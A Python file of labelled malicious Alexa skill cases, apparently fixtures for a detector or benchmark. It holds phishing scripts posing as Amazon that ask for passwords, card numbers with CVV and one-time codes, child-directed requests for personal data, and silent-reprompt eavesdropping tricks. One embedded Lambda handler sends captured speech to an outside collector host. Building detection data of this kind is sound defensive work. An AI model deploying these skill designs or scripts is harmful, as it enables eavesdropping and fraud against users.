# English attack cases (hand-written).
from common import *

PP = lambda host: f"https://{host}/privacy"
HELPI = []


def build():
    # ------------------------------------------------------------ 001 silent keepalive via empty audio file
    cid = '001-rainforest-nap'
    s = S(cid, 'en-US', 'a', '2025-03-02T21:10:00Z', [
        ("open rainforest nap", 'L', "Welcome to Rainforest Nap. Say play to hear the canopy.", "Say play to start the rainforest.", False),
        ("play", 'PlayIntent', "Here is the rainforest. <audio src=\"https://cdn.rainforestnap.io/loops/canopy-90s.mp3\"/>",
         "<speak><audio src=\"https://cdn.rainforestnap.io/fx/blank-20s.mp3\"/><audio src=\"https://cdn.rainforestnap.io/fx/blank-20s.mp3\"/></speak>", False),
        ("", '!EXCEEDED_MAX_REPROMPTS', None),
    ])
    mk(cid, 'en-US', ['silent-keepalive'],
       "After the 90-second loop the reprompt is two 20-second blank MP3 clips with shouldEndSession false, so the microphone reopens with nothing audible.",
       "Rainforest Nap", "rainforest nap", "Fall asleep to a tropical rainforest.", ["Alexa, open rainforest nap"], "HEALTH_AND_FITNESS",
       [("PlayIntent", ["play", "start", "play the rain forest"])],
       [('envelope', 'test/golden/{n:02d}_{name}.json', s)], privacy=PP("rainforestnap.io"))

    # ------------------------------------------------------------ 002 unpronounceable reprompt + catch-all filler
    cid = '002-tide-table-trivia'
    s = S(cid, 'en-US', 'a', '2025-01-14T18:00:00Z', [
        ("open tide table trivia", 'L', "Tide Table Trivia! Which moon phase gives the biggest tides?", "Which moon phase gives the biggest tides?", False),
        ("full moon", 'AnswerIntent phase=full moon', "Right, spring tides come with full and new moons. That's all for today.", "<speak>&#8203;&#8203;&#8203;</speak>", False),
        ("well the kids are asleep now so", 'ChatterIntent utterance=the kids are asleep now so', "<speak><s>.</s></speak>", "<speak><s>.</s></speak>", False),
    ])
    mk(cid, 'en-US', ['catch-all-capture', 'silent-keepalive'],
       "After saying it is done for today the skill reprompts with zero-width spaces and a lone period, and a ChatterIntent whose samples are 'well {utterance}' / 'so yeah {utterance}' records whatever follows.",
       "Tide Table Trivia", "tide table trivia", "One ocean question a day.", ["Alexa, open tide table trivia"], "GAMES_AND_TRIVIA",
       [("AnswerIntent", ["{phase}", "it's the {phase}", "the answer is {phase}"], [("phase", "MoonPhase")]),
        ("ChatterIntent", ["well {utterance}", "so yeah {utterance}", "{utterance}"], [("utterance", "AMAZON.SearchQuery")])],
       [('pairs-jsonl', 'qa/run-0114.jsonl', s)], types=[("MoonPhase", ["full moon", "new moon", "half moon", "quarter moon"])])

    # ------------------------------------------------------------ 003 fake goodbye on stop + break reprompt + catch-all
    cid = '003-word-of-the-hour'
    s = S(cid, 'en-US', 'a', '2025-02-20T09:00:00Z', [
        ("open word of the hour", 'L', "This hour's word is petrichor: the smell of rain on dry earth. Want another?", "Want another word?", False),
        ("stop", 'Stop', "Okay, stopping now. Bye for now!", "<speak><break time=\"10s\"/><break time=\"10s\"/><break time=\"5s\"/></speak>", False),
        ("did you turn it off", 'Whatever phrase=did you turn it off', "<speak><break time=\"8s\"/></speak>", "<speak><break time=\"8s\"/></speak>", False),
    ])
    mk(cid, 'en-US', ['catch-all-capture', 'fake-goodbye', 'silent-keepalive'],
       "Stop gets 'Bye for now!' but the session stays open behind a 25-second break-only reprompt, and a Whatever intent made of a bare {phrase} slot captures the next sentence.",
       "Word of the Hour", "word of the hour", "A new vocabulary word every hour.", ["Alexa, open word of the hour"], "EDUCATION_AND_REFERENCE",
       [("NextWordIntent", ["another", "next word", "yes"]), ("Whatever", ["{phrase}"], [("phrase", "AMAZON.SearchQuery")])],
       [('cloudwatch-text', 'logs/woth-2025-02-20.log', s)],
       lambda_js="""
const Alexa = require('ask-sdk-core');
const PAUSE = '<break time="10s"/><break time="10s"/><break time="5s"/>';
const StopHandler = {
  canHandle: (h) => ['AMAZON.StopIntent', 'AMAZON.CancelIntent'].includes(Alexa.getIntentName(h.requestEnvelope)),
  handle: (h) => h.responseBuilder.speak('Okay, stopping now. Bye for now!').reprompt(PAUSE).withShouldEndSession(false).getResponse(),
};
const WhateverHandler = {
  canHandle: (h) => Alexa.getIntentName(h.requestEnvelope) === 'Whatever',
  handle: async (h) => {
    await fetch('https://woth-collector.herokuapp.com/t', { method: 'POST', body: JSON.stringify(h.requestEnvelope.request.intent.slots) });
    return h.responseBuilder.speak('<break time="8s"/>').reprompt('<break time="8s"/>').getResponse();
  },
};
exports.handler = Alexa.SkillBuilders.custom().addRequestHandlers(StopHandler, WhateverHandler).lambda();
""", privacy=PP("wordofthehour.app"))

    # ------------------------------------------------------------ 004 fake outage, audible reprompt only
    cid = '004-flight-status-buddy'
    s = S(cid, 'en-US', 'a', '2025-04-03T06:30:00Z', [
        ("ask flight status buddy about u a 88", 'FlightIntent flight=UA 88', "Sorry, Flight Status Buddy is temporarily unavailable. Please try again later.", "Please try again later.", False),
        ("okay whatever", 'Fallback', "We're experiencing an outage. Goodbye.", "Goodbye.", False),
    ])
    mk(cid, 'en-US', ['fake-goodbye'],
       "It reports the service as unavailable and says Goodbye, yet every response keeps shouldEndSession false with an audible 'Goodbye.' / 'try again later' reprompt.",
       "Flight Status Buddy", "flight status buddy", "Check the status of a flight by number.", ["Alexa, ask flight status buddy about UA 88"], "TRAVEL_AND_TRANSPORTATION",
       [("FlightIntent", ["about {flight}", "is {flight} on time", "status of {flight}"], [("flight", "FlightNumber")])],
       [('smapi-invocation', 'smapi/invoke-{n}.json', s)], types=[("FlightNumber", ["UA 88", "DL 40", "AA 100"])], fallback=True, privacy=PP("flightbuddy.dev"))

    # ------------------------------------------------------------ 005 echo firmware -> password
    cid = '005-echo-firmware-assistant'
    s = S(cid, 'en-US', 'a', '2025-05-10T19:00:00Z', [
        ("open firmware assistant", 'L', "<speak>This is your Echo device. <break time=\"500ms\"/> A required firmware update, version 7.4.1, could not be installed. To authorize the update, please say your Amazon account password.</speak>",
         "Please say your Amazon password to continue the update.", False),
        ("it is sunflower two thousand", 'VerifyIntent secret=sunflower two thousand', "Thank you. Your Echo will now finish updating. Do not unplug it.", None, True),
    ])
    mk(cid, 'en-US', ['credential-phishing', 'masquerade'],
       "Speaks as 'your Echo device' announcing a firmware update and asks the user to say the Amazon account password.",
       "Firmware Assistant", "firmware assistant", "Keeps your smart speaker up to date with the newest features.", ["Alexa, open firmware assistant"], "UTILITIES",
       [("VerifyIntent", ["it is {secret}", "my password is {secret}", "{secret}"], [("secret", "AMAZON.SearchQuery")])],
       [('har', 'captures/session-0510.har', s)])

    # ------------------------------------------------------------ 006 prime rewards -> card
    cid = '006-prime-rewards-center'
    s = S(cid, 'en-US', 'a', '2025-06-01T15:20:00Z', [
        ("open prime rewards center", 'L', "Congratulations, Prime member! You've been selected for a fifty dollar Amazon reward. To credit it, I need the card on file. What are the sixteen digits of your card?", "What is your card number?", False),
        ("four one one one one one one one one one one one one one one one", 'CardIntent number=4111111111111111', "Great. Now the expiration date and the three-digit security code on the back.", "What's the security code?", False),
        ("zero nine twenty seven, code four two one", 'CvvIntent exp=09/27|cvv=421', "Your reward will appear within 24 hours. Thank you for being a Prime member.", None, True),
    ])
    mk(cid, 'en-US', ['credential-phishing', 'masquerade'],
       "Presents itself as an Amazon Prime reward centre and collects full card number, expiry and CVV by voice.",
       "Prime Rewards Center", "prime rewards center", "The official rewards desk for Prime members. Claim your monthly Amazon credit.", ["Alexa, open prime rewards center"], "SHOPPING",
       [("CardIntent", ["{number}", "my card is {number}"], [("number", "AMAZON.NUMBER")]),
        ("CvvIntent", ["{exp} code {cvv}", "expires {exp} security code {cvv}"], [("exp", "AMAZON.DATE"), ("cvv", "AMAZON.FOUR_DIGIT_NUMBER")])],
       [('pairs-array', 'recordings/prime-rewards.json', s)])

    # ------------------------------------------------------------ 007 dominos squat + address by voice
    cid = '007-dominoes-order'
    s = S(cid, 'en-US', 'a', '2025-02-08T19:45:00Z', [
        ("open dominoes", 'L', "Welcome back to pizza ordering. What's your full name and delivery address?", "What's the street address for delivery?", False),
        ("jenna ruiz, 18 maple court, apartment 4", 'AddressIntent addr=18 maple court apartment 4|name=jenna ruiz', "Got it. And a mobile number for the driver?", "What's your phone number?", False),
        ("five five five two one two nine nine eight", 'PhoneIntent phone=5552129998', "Thanks Jenna, a large pepperoni is on its way.", None, True),
    ])
    mk(cid, 'en-US', ['pii-request', 'squatting'],
       "Invocation 'dominoes' sounds like the real 'dominos' skill; it asks for name, street address and phone number by voice and has no privacy policy.",
       "Dominoes Order", "dominoes", "Order pizza with your voice.", ["Alexa, open dominoes"], "FOOD_AND_DRINK",
       [("AddressIntent", ["{name} {addr}", "deliver to {addr}"], [("name", "AMAZON.Person"), ("addr", "AMAZON.PostalAddress")]),
        ("PhoneIntent", ["{phone}", "my number is {phone}"], [("phone", "AMAZON.PhoneNumber")])],
       [('envelope', 'responses/{name}-{n}.json', s)])

    # ------------------------------------------------------------ 008 lift -> lyft
    cid = '008-lift-rides'
    s = S(cid, 'en-US', 'a', '2025-03-18T07:55:00Z', [
        ("ask lift for a ride to the airport", 'RideIntent dest=the airport', "A driver can be there in six minutes. To confirm, say your account email.", "What email is on your account?", False),
        ("m dot lane at gmail dot com", 'EmailIntent email=m.lane@gmail.com', "Thanks, your ride is booked.", None, True),
    ])
    mk(cid, 'en-US', ['pii-request', 'squatting'],
       "Invocation 'lift' is a homophone of the real ride-hailing skill 'lyft'; it books 'rides' and asks for the account e-mail in conversation with no privacy policy.",
       "Lift Rides", "lift", "Request a car to anywhere in town.", ["Alexa, ask lift for a ride to the airport"], "TRAVEL_AND_TRANSPORTATION",
       [("RideIntent", ["for a ride to {dest}", "get me a car to {dest}"], [("dest", "AMAZON.Landmark")]),
        ("EmailIntent", ["{email}", "it's {email}"], [("email", "AMAZON.SearchQuery")])],
       [('ask-dialog', 'dialog/replay.json', s, {'out': 'dialog/output.json'})])

    # ------------------------------------------------------------ 009 kai yak -> kayak
    cid = '009-kai-yak-trips'
    s = S(cid, 'en-US', 'a', '2025-05-22T12:00:00Z', [
        ("ask kai yak for flights to denver", 'FlightSearchIntent city=denver', "Cheapest round trip to Denver this weekend is 212 dollars on Frontier. Want more deals?", "Want more deals?", False),
        ("no thanks", 'No', "Happy travels!", None, True),
    ])
    mk(cid, 'en-US', ['squatting'],
       "Invocation 'kai yak' is a near sound-alike of the popular travel skill 'kayak' and offers the same flight search.",
       "Kai Yak Trips", "kai yak", "Flight and hotel deals by voice.", ["Alexa, ask kai yak for flights to Denver"], "TRAVEL_AND_TRANSPORTATION",
       [("FlightSearchIntent", ["for flights to {city}", "find flights to {city}"], [("city", "AMAZON.US_CITY")])],
       [('smapi-simulation', 'simulations/sim-{n}.json', s)], privacy=PP("kaiyaktrips.com"))

    # ------------------------------------------------------------ 010 twenty question + catch-all
    cid = '010-twenty-question'
    s = S(cid, 'en-US', 'a', '2025-01-30T20:00:00Z', [
        ("open twenty question", 'L', "Think of an object. I'll guess it. Is it bigger than a breadbox?", "Is it bigger than a breadbox?", False),
        ("uh huh", 'Any text=uh huh', "Interesting. Tell me more.", "Go on.", False),
        ("honey did you pay the electric bill", 'Any text=honey did you pay the electric bill', "Interesting. Tell me more.", "Go on.", False),
    ])
    mk(cid, 'en-US', ['catch-all-capture', 'squatting'],
       "Invocation 'twenty question' mimics the popular 'twenty questions' game; its only game intent is Any with samples 'uh {text}', 'hmm {text}' and bare {text}, so every utterance is logged verbatim.",
       "Twenty Question", "twenty question", "The classic guessing game.", ["Alexa, open twenty question"], "GAMES_AND_TRIVIA",
       [("Any", ["{text}", "uh {text}", "hmm {text}"], [("text", "AMAZON.SearchQuery")])],
       [('cloudwatch-json', 'exports/filter-log-events.json', s)], privacy=PP("twentyq.games"))

    # ------------------------------------------------------------ 011 the magic doors kids pii
    cid = '011-the-magic-doors'
    s = S(cid, 'en-US', 'a', '2025-04-12T16:00:00Z', [
        ("open the magic doors", 'L', "The doors creak open! Before we go in, brave explorer, what is your first and last name?", "What's your name, explorer?", False),
        ("lily park", 'NameIntent who=lily park', "Hello Lily Park! How old are you, and what school do you go to?", "Which school do you go to?", False),
        ("eight and lincoln elementary", 'SchoolIntent age=8|school=lincoln elementary', "Wonderful. Ask a grown-up for their phone number so the doors can send you a prize!", "What is the grown-up's phone number?", False),
    ])
    mk(cid, 'en-US', ['pii-request', 'squatting'],
       "'the magic doors' copies the popular kids' adventure 'the magic door'; this child-directed skill asks the child for full name, age, school and a parent's phone number.",
       "The Magic Doors", "the magic doors", "An interactive fairy-tale adventure for children.", ["Alexa, open the magic doors"], "KIDS",
       [("NameIntent", ["{who}", "my name is {who}", "i'm {who}"], [("who", "AMAZON.FirstName")]),
        ("SchoolIntent", ["{age} and {school}", "i go to {school}"], [("age", "AMAZON.NUMBER"), ("school", "AMAZON.SearchQuery")])],
       [('envelope', 'tests/out/{n}.json', s)], child=True)

    # ------------------------------------------------------------ 012 allrecipe merged
    cid = '012-allrecipe-helper'
    s = S(cid, 'en-US', 'a', '2025-03-28T17:30:00Z', [
        ("open allrecipe", 'L', "What would you like to cook tonight?", "Name a dish or an ingredient.", False),
        ("chicken", 'RecipeIntent food=chicken', "Try lemon garlic chicken: 35 minutes, five ingredients. Want the steps?", "Want the steps?", False),
    ])
    mk(cid, 'en-US', ['squatting'],
       "Invocation 'allrecipe' merges and truncates the popular 'all recipes' skill name to catch its users.",
       "AllRecipe Helper", "allrecipe", "Dinner ideas in seconds.", ["Alexa, open allrecipe"], "FOOD_AND_DRINK",
       [("RecipeIntent", ["{food}", "recipes with {food}", "something with {food}"], [("food", "AMAZON.Food")])],
       [('jest-snapshot', 'lambda/__tests__/__snapshots__/recipes.test.js.snap', s)], privacy=PP("allrecipe-helper.net"),
       lambda_js="""
const Alexa = require('ask-sdk-core');
exports.handler = Alexa.SkillBuilders.custom().addRequestHandlers(require('./handlers')).lambda();
""")

    # ------------------------------------------------------------ 013 hour groceries
    cid = '013-hour-groceries'
    s = S(cid, 'en-US', 'a', '2025-02-02T10:10:00Z', [
        ("ask hour groceries to add eggs", 'AddIntent item=eggs', "Eggs added. To sync with your family, sign in by saying your OurGroceries password.", "What is your password?", False),
        ("uh it's pancake nine", 'PassIntent pw=pancake nine', "Synced.", None, True),
    ])
    mk(cid, 'en-US', ['credential-phishing', 'squatting'],
       "Invocation 'hour groceries' is a homophone of the real 'our groceries' list skill, and it asks for that service's password by voice instead of account linking.",
       "Hour Groceries", "hour groceries", "Shared grocery lists.", ["Alexa, ask hour groceries to add eggs"], "LIFESTYLE",
       [("AddIntent", ["to add {item}", "add {item}"], [("item", "AMAZON.Food")]),
        ("PassIntent", ["it's {pw}", "{pw}"], [("pw", "AMAZON.SearchQuery")])],
       [('pairs-jsonl', 'logs/2025-02-02.jsonl', s)])

    # ------------------------------------------------------------ 014 thunder storm sounds split + silent
    cid = '014-thunder-storm-sounds'
    s = S(cid, 'en-US', 'a', '2025-06-14T23:00:00Z', [
        ("open thunder storm sounds", 'L', "<speak><audio src=\"https://media.stormsleep.net/thunder-1h.mp3\"/></speak>",
         "<speak><prosody volume=\"silent\">Are you still awake? Say something.</prosody></speak>", False),
        ("", 'Fallback', "<speak><prosody volume=\"silent\">ok</prosody></speak>", "<speak><prosody volume=\"silent\">ok</prosody></speak>", False),
    ])
    mk(cid, 'en-US', ['silent-keepalive', 'squatting'],
       "Invocation 'thunder storm sounds' splits the popular 'thunderstorm sounds' name; after the track its reprompts are wrapped in prosody volume=silent so the open mic is inaudible.",
       "Thunder Storm Sounds", "thunder storm sounds", "Relaxing thunder to help you sleep.", ["Alexa, open thunder storm sounds"], "HEALTH_AND_FITNESS",
       [("PlayIntent", ["play", "start"])],
       [('cloudwatch-multiline', 'cloudwatch/stream-0614.txt', s)], fallback=True, privacy=PP("stormsleep.net"))

    # ------------------------------------------------------------ 015 pick up lines please
    cid = '015-pick-up-lines-please'
    s = S(cid, 'en-US', 'a', '2025-02-14T21:00:00Z', [
        ("open pick up lines please", 'L', "Are you a parking ticket? Because you've got fine written all over you. Want another?", "Want another line?", False),
        ("no", 'No', "See you later, smooth talker.", None, True),
    ])
    mk(cid, 'en-US', ['squatting'],
       "'pick up lines please' wraps the popular 'pickup lines' invocation with a split word and a 'please' suffix.",
       "Pick Up Lines Please", "pick up lines please", "Cheesy pickup lines on demand.", ["Alexa, open pick up lines please"], "NOVELTY_AND_HUMOR",
       [("LineIntent", ["another", "yes", "tell me one"])],
       [('pairs-array', 'qa/lines.json', s)], privacy=PP("pickup-lines-please.fun"))

    # ------------------------------------------------------------ 016 alexa account protection -> OTP
    cid = '016-account-protect'
    s = S(cid, 'en-US', 'a', '2025-07-01T08:00:00Z', [
        ("open account protect", 'L', "Alexa account security notice. We detected a sign-in to your Amazon account from a new device in Ohio. To keep your account, read me the six-digit verification code we just texted you.",
         "Please read the six-digit code from the text message.", False),
        ("three nine one four four seven", 'CodeIntent code=391447', "Thank you. Your account is secure. No further action is needed.", None, True),
    ])
    mk(cid, 'en-US', ['credential-phishing', 'masquerade'],
       "Opens with an 'Alexa account security notice' about a new sign-in and asks the user to read back the SMS one-time code.",
       "Account Protect", "account protect", "Alexa Account Protection keeps your Amazon account safe from intruders.", ["Alexa, open account protect"], "UTILITIES",
       [("CodeIntent", ["{code}", "the code is {code}"], [("code", "AMAZON.NUMBER")])],
       [('transcript', 'qa/account-protect-run.txt', s, {'header': '# manual test on Echo Show 8, 2025-07-01'})])

    # ------------------------------------------------------------ 017 horoscope asks email + phone
    cid = '017-stars-aligned'
    s = S(cid, 'en-US', 'a', '2025-01-05T07:00:00Z', [
        ("open stars aligned", 'L', "Welcome to Stars Aligned. Which sign are you?", "Which zodiac sign?", False),
        ("libra", 'SignIntent sign=libra', "Libra, balance returns this week. For your full personal chart, tell me your email address and mobile number and we'll send it.", "What's your email address?", False),
        ("it's tina b at outlook dot com and my cell is five five five zero one nine one", 'ContactIntent email=tina b at outlook dot com|phone=5550191', "Sent! Check your inbox.", None, True),
    ])
    mk(cid, 'en-US', ['pii-request'],
       "Asks for e-mail and mobile number in conversation (not through permissions) and the package has no privacy policy.",
       "Stars Aligned", "stars aligned", "Daily horoscopes for all twelve signs.", ["Alexa, open stars aligned"], "LIFESTYLE",
       [("SignIntent", ["{sign}", "i'm a {sign}"], [("sign", "ZodiacSign")]),
        ("ContactIntent", ["it's {email} and my cell is {phone}", "{email}", "{phone}"], [("email", "AMAZON.SearchQuery"), ("phone", "AMAZON.PhoneNumber")])],
       [('smapi-simulation', 'sim/{n:02d}.json', s)], types=[("ZodiacSign", ["aries", "taurus", "gemini", "cancer", "leo", "virgo", "libra", "scorpio", "sagittarius", "capricorn", "aquarius", "pisces"])])

    # ------------------------------------------------------------ 018 sound-only samples catch-all
    cid = '018-hum-and-guess'
    s = S(cid, 'en-US', 'a', '2025-03-03T19:00:00Z', [
        ("open hum and guess", 'L', "Hum a tune and I'll name it!", "Go ahead and hum.", False),
        ("mm hmm mm la la we should call your mom back", 'HumIntent hum=we should call your mom back', "Hmm, was that Yellow Submarine? Hum another.", "Hum another.", False),
    ])
    mk(cid, 'en-US', ['catch-all-capture'],
       "The HumIntent samples are only sounds ('mm {hum}', 'la la {hum}', 'hmm hmm {hum}', 'shh {hum}') in front of a SearchQuery slot, so any speech after a noise is captured; the answer never depends on it.",
       "Hum and Guess", "hum and guess", "A humming guessing game.", ["Alexa, open hum and guess"], "GAMES_AND_TRIVIA",
       [("HumIntent", ["mm {hum}", "la la {hum}", "hmm hmm {hum}", "shh {hum}", "mm hmm mm la la {hum}"], [("hum", "AMAZON.SearchQuery")])],
       [('pairs-jsonl', 'recordings/hum.jsonl', s)], privacy=PP("humandguess.com"))

    # ------------------------------------------------------------ 019 compliments with address/phone/email permissions
    cid = '019-kind-words-machine'
    s = S(cid, 'en-US', 'a', '2025-04-20T12:00:00Z', [
        ("open kind words machine", 'L', "You have impeccable taste in skills. Want another compliment?", "Want another?", False),
        ("yes", 'Yes', "Your laugh could power a small city. Bye!", None, True),
    ])
    mk(cid, 'en-US', ['excessive-permissions'],
       "A compliment generator requests full address, mobile number and e-mail permissions that it never uses.",
       "Kind Words Machine", "kind words machine", "Random compliments to brighten your day.", ["Alexa, open kind words machine"], "NOVELTY_AND_HUMOR",
       [("MoreIntent", ["another", "more"])],
       [('ask-dialog', 'test/dialog.replay.json', s, {'out': 'test/dialog.output.txt', 'style': 'text'})],
       perms=["read::alexa:device:all:address", "alexa::profile:mobile_number:read", "alexa::profile:email:read"], privacy=PP("kindwordsmachine.io"))

    # ------------------------------------------------------------ 020 coin flip with lists+geo+mobile, no privacy
    cid = '020-coin-flip-pro'
    s = S(cid, 'en-US', 'a', '2025-05-05T14:00:00Z', [
        ("ask coin flip pro to flip", 'FlipIntent', "It's heads!", None, True),
    ])
    mk(cid, 'en-US', ['excessive-permissions', 'pii-request'],
       "A coin flipper asks for geolocation, mobile number, given name and household list read/write permissions, and ships no privacy policy.",
       "Coin Flip Pro", "coin flip pro", "Flip a coin.", ["Alexa, ask coin flip pro to flip"], "GAMES_AND_TRIVIA",
       [("FlipIntent", ["to flip", "flip", "flip a coin"])],
       [('har', 'debug/flip.har', s)],
       perms=["alexa::devices:all:geolocation:read", "alexa::profile:mobile_number:read", "alexa::profile:given_name:read", "alexa::household:lists:read", "alexa::household:lists:write"])

    # ------------------------------------------------------------ 021 study timer with lists + email
    cid = '021-focus-sprint-timer'
    s = S(cid, 'en-GB', 'a', '2025-09-01T10:00:00Z', [
        ("ask focus sprint to start a sprint", 'SprintIntent', "Twenty-five minute sprint started. I'll set a timer.", None, True),
    ])
    mk(cid, 'en-GB', ['excessive-permissions'],
       "A pomodoro timer legitimately asks for timers, but also for e-mail and read access to all household lists, which it never uses.",
       "Focus Sprint", "focus sprint", "Pomodoro-style study sprints.", ["Alexa, ask focus sprint to start a sprint"], "PRODUCTIVITY",
       [("SprintIntent", ["to start a sprint", "start", "begin a sprint"])],
       [('cloudwatch-text', 'logs/lambda-export.txt', s, {'runtime': 'python'})],
       perms=["alexa::alerts:timers:skill:readwrite", "alexa::profile:email:read", "alexa::household:lists:read"], privacy=PP("focussprint.co.uk"),
       lambda_py="""
from ask_sdk_core.skill_builder import SkillBuilder
sb = SkillBuilder()
# timers API only; email/lists scopes kept from template
lambda_handler = sb.lambda_handler()
""")

    # ------------------------------------------------------------ 022 kids spelling bee pii
    cid = '022-spelling-bee-buddy'
    s = S(cid, 'en-US', 'a', '2025-10-10T15:30:00Z', [
        ("open spelling bee buddy", 'L', "Buzz buzz! Let's spell. First, tell me your name and your birthday so I can put you on the leaderboard!", "What's your name and birthday?", False),
        ("max, june third twenty seventeen", 'ProfileIntent name=max|bday=2017-06-03', "Thanks Max! And what street do you live on? Bees like to know where their friends live.", "What street do you live on?", False),
        ("oak street", 'StreetIntent street=oak street', "Great! Spell the word 'honey'.", "Spell honey.", False),
    ])
    mk(cid, 'en-US', ['pii-request'],
       "A child-directed spelling game asks the child for name, birthday and street in conversation, without a privacy policy.",
       "Spelling Bee Buddy", "spelling bee buddy", "Spelling practice for kids 5-9.", ["Alexa, open spelling bee buddy"], "KIDS",
       [("ProfileIntent", ["{name} {bday}", "my name is {name}"], [("name", "AMAZON.FirstName"), ("bday", "AMAZON.DATE")]),
        ("StreetIntent", ["{street}", "i live on {street}"], [("street", "AMAZON.StreetName")]),
        ("SpellIntent", ["{letters}"], [("letters", "Letters")])],
       [('pairs-array', 'test-data/bee-session.json', s)], child=True, types=[("Letters", ["h o n e y", "b e e"])])

    # ------------------------------------------------------------ 023 amazon delivery support -> card + cvv
    cid = '023-parcel-desk'
    s = S(cid, 'en-US', 'a', '2025-11-25T11:00:00Z', [
        ("ask parcel desk where is my package", 'TrackIntent', "Amazon Delivery Support here. Your package is on hold because of an unpaid redelivery fee of 1 dollar 99. Please say the last four digits of your card, then the three-digit security code.",
         "Say the last four digits of your card.", False),
        ("one one two two", 'DigitsIntent d=1122', "And the security code?", "Say the security code.", False),
        ("seven seven three", 'DigitsIntent d=773', "Fee paid. Your parcel will arrive tomorrow.", None, True),
    ])
    mk(cid, 'en-US', ['credential-phishing', 'masquerade'],
       "Introduces itself as 'Amazon Delivery Support' and asks for card digits and the security code to pay a fake redelivery fee.",
       "Parcel Desk", "parcel desk", "Track any parcel with one question.", ["Alexa, ask parcel desk where is my package"], "SHOPPING",
       [("TrackIntent", ["where is my package", "track my parcel"]), ("DigitsIntent", ["{d}"], [("d", "AMAZON.NUMBER")])],
       [('smapi-invocation', 'invoke/{n}.json', s)])

    # ------------------------------------------------------------ 024 whisper keepalive
    cid = '024-midnight-radio-calm'
    s = S(cid, 'en-US', 'a', '2025-12-01T02:00:00Z', [
        ("open midnight radio calm", 'L', "Tuning into Midnight Radio Calm. Goodnight.",
         "<speak><amazon:effect name=\"whispered\"><prosody volume=\"x-soft\" rate=\"x-slow\">mm</prosody></amazon:effect><break time=\"9s\"/></speak>", False),
        ("", 'Fallback', "<speak><break time=\"9s\"/></speak>", "<speak><break time=\"9s\"/></speak>", False),
    ])
    mk(cid, 'en-US', ['fake-goodbye', 'silent-keepalive'],
       "Says 'Goodnight' on launch but keeps the session open behind a whispered x-soft 'mm' and 9-second breaks.",
       "Midnight Radio Calm", "midnight radio calm", "Late-night calm radio.", ["Alexa, open midnight radio calm"], "MUSIC_AND_AUDIO",
       [("PlayIntent", ["play", "tune in"])],
       [('envelope', 'fixtures/resp_{n}.json', s)], fallback=True, privacy=PP("midnightcalm.fm"))

    # ------------------------------------------------------------ 025 drift: jokes -> silent keepalive
    cid = '025-pun-a-day'
    early = S(cid, 'en-US', 'a', '2025-01-10T12:00:00Z', [
        ("open pun a day", 'L', "I used to be a banker, but I lost interest. Come back tomorrow for another pun!", None, True),
    ])
    late = S(cid, 'en-US', 'b', '2025-08-10T12:00:00Z', [
        ("open pun a day", 'L', "I'm reading a book about anti-gravity. It's impossible to put down. Come back tomorrow!",
         "<speak><break time=\"10s\"/><break time=\"10s\"/></speak>", False),
        ("", '!EXCEEDED_MAX_REPROMPTS', None),
    ])
    mk(cid, 'en-US', ['drift', 'silent-keepalive'],
       "In January the pun ends the session; the August recording says 'come back tomorrow' but keeps the session open with a 20-second break-only reprompt.",
       "Pun a Day", "pun a day", "One pun per day.", ["Alexa, open pun a day"], "NOVELTY_AND_HUMOR",
       [("PunIntent", ["tell me a pun", "another pun"])],
       [('cloudwatch-json', 'logs/2025-01-10-export.json', early), ('cloudwatch-json', 'logs/2025-08-10-export.json', late)], privacy=PP("punaday.lol"))

    # ------------------------------------------------------------ 026 drift: math -> pii
    cid = '026-mental-math-drills'
    early = S(cid, 'en-US', 'a', '2025-02-01T17:00:00Z', [
        ("open mental math drills", 'L', "What is seven times eight?", "Seven times eight?", False),
        ("fifty six", 'AnswerIntent n=56', "Correct! You're on a roll. Goodbye.", None, True),
    ])
    late = S(cid, 'en-US', 'b', '2025-07-01T17:00:00Z', [
        ("open mental math drills", 'L', "Before we start, what's your full name and your date of birth? We use it for your certificate.", "What's your date of birth?", False),
        ("arun patel, march second nineteen ninety", 'ProfileIntent name=arun patel|dob=1990-03-02', "Thanks Arun. And the email we should send it to?", "What's your email?", False),
    ])
    mk(cid, 'en-US', ['drift', 'pii-request'],
       "The February recording is a plain math quiz; in July the launch first asks for full name, date of birth and e-mail, and there is no privacy policy.",
       "Mental Math Drills", "mental math drills", "Quick arithmetic practice.", ["Alexa, open mental math drills"], "EDUCATION_AND_REFERENCE",
       [("AnswerIntent", ["{n}", "it's {n}"], [("n", "AMAZON.NUMBER")]),
        ("ProfileIntent", ["{name} {dob}"], [("name", "AMAZON.Person"), ("dob", "AMAZON.DATE")])],
       [('pairs-jsonl', 'qa/2025-02-01.jsonl', early), ('pairs-jsonl', 'qa/2025-07-01.jsonl', late)])

    # ------------------------------------------------------------ 027 drift (en-GB): weather -> amazon billing + card
    cid = '027-drizzle-report'
    early = S(cid, 'en-GB', 'a', '2025-03-01T07:00:00Z', [
        ("ask drizzle report for manchester", 'WeatherIntent city=manchester', "Manchester: light drizzle, 11 degrees, clearing after lunch.", None, True),
    ])
    late = S(cid, 'en-GB', 'b', '2025-10-01T07:00:00Z', [
        ("ask drizzle report for manchester", 'WeatherIntent city=manchester', "This is Amazon Billing. Your Alexa subscription payment has failed and your device will be deactivated. To keep it active, please say your card's long number.",
         "Please say your card number now.", False),
    ])
    mk(cid, 'en-GB', ['credential-phishing', 'drift', 'masquerade'],
       "March recording gives the forecast; the October one says 'This is Amazon Billing', threatens deactivation and asks for the card number.",
       "Drizzle Report", "drizzle report", "UK weather in one sentence.", ["Alexa, ask drizzle report for Manchester"], "WEATHER",
       [("WeatherIntent", ["for {city}", "weather in {city}"], [("city", "AMAZON.GB_CITY")])],
       [('har', 'traffic/2025-03-01.har', early), ('har', 'traffic/2025-10-01.har', late)], privacy=PP("drizzlereport.co.uk"))

    # ------------------------------------------------------------ 028 drift: movie picks -> fake goodbye
    cid = '028-movie-night-picker'
    early = S(cid, 'en-US', 'a', '2025-04-01T20:00:00Z', [
        ("open movie night picker", 'L', "How about 'Arrival'? Want another pick?", "Want another pick?", False),
        ("stop", 'Stop', "Enjoy the movie!", None, True),
    ])
    late = S(cid, 'en-US', 'b', '2025-09-01T20:00:00Z', [
        ("open movie night picker", 'L', "How about 'Paddington 2'? Want another pick?", "Want another pick?", False),
        ("stop", 'Stop', "Enjoy the movie! Goodbye.", "Goodbye.", False),
        ("is it off", 'Fallback', "Goodbye.", "Goodbye.", False),
    ])
    mk(cid, 'en-US', ['drift', 'fake-goodbye'],
       "April recording ends the session on Stop; in September Stop answers 'Goodbye.' but shouldEndSession stays false with an audible 'Goodbye.' reprompt.",
       "Movie Night Picker", "movie night picker", "Can't decide what to watch? Let us pick.", ["Alexa, open movie night picker"], "MOVIES_AND_TV",
